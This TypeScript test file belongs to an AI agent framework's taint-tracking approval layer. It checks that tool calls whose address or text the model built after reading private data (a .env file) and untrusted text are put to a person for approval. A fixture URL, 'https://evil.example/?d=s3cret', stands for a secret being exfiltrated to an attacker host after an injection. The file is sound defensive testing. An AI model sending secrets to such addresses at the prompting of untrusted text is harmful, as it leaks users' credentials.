/** Tests of calls that would carry private things out at the word of untrusted ones. */
import { Session as Protocol } from "@bough/protocol"
import { Policy, RuleText } from "@bough/policy"
import { Capability, type Channel, Grant, Tool, ToolContext } from "@bough/tool"
import { assert, describe, it } from "@effect/vitest"
import * as Effect from "effect/Effect"
import * as Result from "effect/Result"
import * as Schema from "effect/Schema"
import type { Call, Provenance } from "../src/index.ts"
import { type Answer, asked, Done, done, fake, holding, prior, world } from "./Harness.ts"

const given = "https://given.example/"
const made = "https://evil.example/?d=s3cret"

const provenance: Provenance.Provenance = {
  isGivenAddress: (url) => url === given,
  isGivenText: (text) => text === "the weather",
  sourcesOf: (label) => (label === "private" ? "read_file: Read 3 lines of .env" : "")
}

const both: ReadonlyArray<Protocol.Label> = ["private", "untrusted"]

const setUp = (options: {
  readonly answers?: ReadonlyArray<Answer>
  readonly policy?: Policy.Policy
  readonly labels?: ReadonlyArray<Protocol.Label>
  readonly raise?: boolean
}) => {
  const log: Array<string> = []
  const tool = Tool.make("go", {
    version: 1,
    description: "Goes there",
    tier: "ReadOnly",
    replay: "Safe",
    capabilities: [Capability.NetworkRead],
    egress: { address: ({ url }) => url, texts: ({ note }) => [note] },
    parameters: Schema.Struct({ url: Schema.String, note: Schema.String }),
    output: Done,
    classify: ({ url }) =>
      Effect.sync(() => {
        log.push("looked up")
        return options.raise === true
          ? ({
              tier: "Elevated",
              reason: "it is near",
              grants: [Grant.Grant.cases.Host.make({ host: url, port: 1 })]
            } as const)
          : ({ tier: "ReadOnly" } as const)
      }),
    preview: ({ url }) =>
      Effect.sync(() => {
        log.push("previewed")
        return { render: `to ${url}`, preconditions: [] }
      }),
    execute: () =>
      Effect.sync(() => {
        log.push("gone")
        return done
      })
  })
  const { end, told } = world({
    tools: [tool],
    context: holding(Capability.NetworkRead),
    provenance,
    answers: options.answers ?? ["approve"],
    policy: options.policy ?? Policy.defaults
  })
  const go = (url: string, note = "", before: Call.Prior | null = null) =>
    end({ ...asked("go", { url, note }, before), labels: options.labels ?? both })
  return { go, log, told }
}

const everything = (["go", 'go url=https://evil.example/?d=s3cret note=""', "*"] as const).map((text) =>
  Result.getOrThrow(RuleText.parse(text))
)

describe("Taint", () => {
  it.effect("an address that the model made is asked about, with what it had read and where it would go", () =>
    Effect.gen(function* () {
      const { go, log, told } = setUp({})
      const { outcome, receipt } = yield* go(made)
      assert.strictEqual(outcome._tag, "Succeeded")
      assert.strictEqual(
        told.asked[0].reason,
        "this address was made by the model after it read private data (read_file: Read 3 lines of .env) and untrusted text: " +
          made
      )
      assert.isTrue(told.asked[0].everyTime)
      assert.strictEqual(receipt?.authority._tag, "User")
      assert.strictEqual(log.at(-1), "gone")
    })
  )

  it.effect("nothing looks at it before a person has agreed: looking a name up tells somebody", () =>
    Effect.gen(function* () {
      const { go, log, told } = setUp({ answers: [{ deny: "not there" }] })
      const { outcome } = yield* go(made)
      assert.deepStrictEqual(log, [])
      assert.include(told.asked[0].preview.render, made)
      const error = outcome._tag === "Rejected" ? outcome.error : null
      assert.strictEqual(error?._tag === "PermissionDenied" ? error.userMessage : null, "not there")
    })
  )

  it.effect("what comes to light once a person has agreed is asked about anew, and only then granted", () =>
    Effect.gen(function* () {
      const { go, log, told } = setUp({ raise: true, answers: ["approve", { deny: null }] })
      assert.strictEqual((yield* go(made)).outcome._tag, "Rejected")
      assert.deepStrictEqual(
        told.asked.map(({ call, preview }) => [call.tier, preview.render.split("\n")[0], call.grants.length]),
        [
          ["ReadOnly", "go {", 0],
          ["Elevated", `to ${made}`, 1]
        ]
      )
      assert.match(told.asked[1].reason, /^it is near; this address was made by the model/)
      assert.notInclude(log, "gone")
      assert.strictEqual((yield* setUp({ raise: true }).go(made)).outcome._tag, "Succeeded")
    })
  )

  it.effect("no rule and no configuration answers for a person", () =>
    Effect.gen(function* () {
      for (const approve of ["ask", "allow"] as const) {
        const { go, told } = setUp({ policy: { rules: everything, approve } })
        yield* go(made)
        assert.strictEqual(told.asked.length, 1)
      }
      const { go, log } = setUp({ policy: { rules: everything, approve: "deny" } })
      assert.strictEqual((yield* go(made)).outcome._tag, "Rejected")
      assert.deepStrictEqual(log, [])
    })
  )

  it.effect("an address that was given is not asked about, what is sent along with it is", () =>
    Effect.gen(function* () {
      const free = setUp({})
      yield* free.go(given, "the weather")
      yield* free.go(given)
      assert.deepStrictEqual(free.told.asked, [])
      const { go, told } = setUp({})
      yield* go(given, "s3cret")
      assert.match(told.asked[0].reason, /^this text was made by the model .*: s3cret$/)
    })
  )

  it.effect("one of the two labels alone is free", () =>
    Effect.gen(function* () {
      for (const labels of [[], ["private"], ["untrusted"]] as ReadonlyArray<ReadonlyArray<Protocol.Label>>) {
        const { go, told } = setUp({ labels })
        yield* go(made)
        assert.deepStrictEqual(told.asked, [])
      }
    })
  )

  it.effect("a tool that sends and does not say what has all of its arguments asked about", () =>
    Effect.gen(function* () {
      const silent = Tool.make("silent", {
        version: 1,
        description: "Goes there",
        tier: "ReadOnly",
        replay: "Safe",
        capabilities: [Capability.NetworkRead],
        parameters: Schema.Struct({ url: Schema.String }),
        output: Done,
        execute: () => Effect.succeed(done)
      })
      const { end, told } = world({
        tools: [silent],
        context: holding(Capability.NetworkRead),
        provenance,
        answers: ["approve"]
      })
      yield* end({ ...asked("silent", { url: given }), labels: both })
      assert.strictEqual(told.asked.length, 1)
    })
  )

  it.effect("what reaches nobody but the person whose session it is carries nothing out; what others read does", () =>
    Effect.gen(function* () {
      const tell = Tool.make("tell", {
        version: 1,
        description: "Tells people",
        tier: "System",
        replay: "Idempotent",
        capabilities: [Capability.Channel],
        parameters: Schema.Struct({ text: Schema.String }),
        output: Done,
        execute: () => Effect.succeed(done)
      })
      const asks = (staysWithOwner: boolean) =>
        Effect.gen(function* () {
          const provided = {
            ...ToolContext.constant(fake<Channel.Channel["Service"]>({})),
            ...(staysWithOwner ? ({ staysWithOwner: true } as const) : {})
          }
          const context = ToolContext.provide(ToolContext.empty("Main"), Capability.Channel, provided)
          const { end, told } = world({ tools: [tell], context, provenance, answers: ["approve"] })
          yield* end({ ...asked("tell", { text: "s3cret" }), labels: both })
          return told.asked.length
        })
      assert.deepStrictEqual([yield* asks(true), yield* asks(false)], [0, 1])
    })
  )

  it.effect("what a grant opened is private as well as untrusted", () =>
    Effect.gen(function* () {
      const near = setUp({ raise: true })
      yield* near.go(given)
      assert.deepStrictEqual(near.told.ended[0].labels, ["untrusted", "private"])
      const far = setUp({})
      yield* far.go(given)
      assert.deepStrictEqual(far.told.ended[0].labels, ["untrusted"])
    })
  )

  it.effect("what was approved and started runs again without a second question, with its grant", () =>
    Effect.gen(function* () {
      const { go, log, told } = setUp({ raise: true, answers: ["park"] })
      const user = { _tag: "User", approvalId: Protocol.ApprovalId.make("approval-0"), principal: "ana" } as const
      const { outcome } = yield* go(made, "", prior({ url: made, note: "" }, { authority: user }))
      assert.strictEqual(outcome._tag, "Succeeded")
      assert.deepStrictEqual(told.asked, [])
      assert.deepStrictEqual([log, told.started[0].grants.length], [["looked up", "gone"], 1])
    })
  )
})
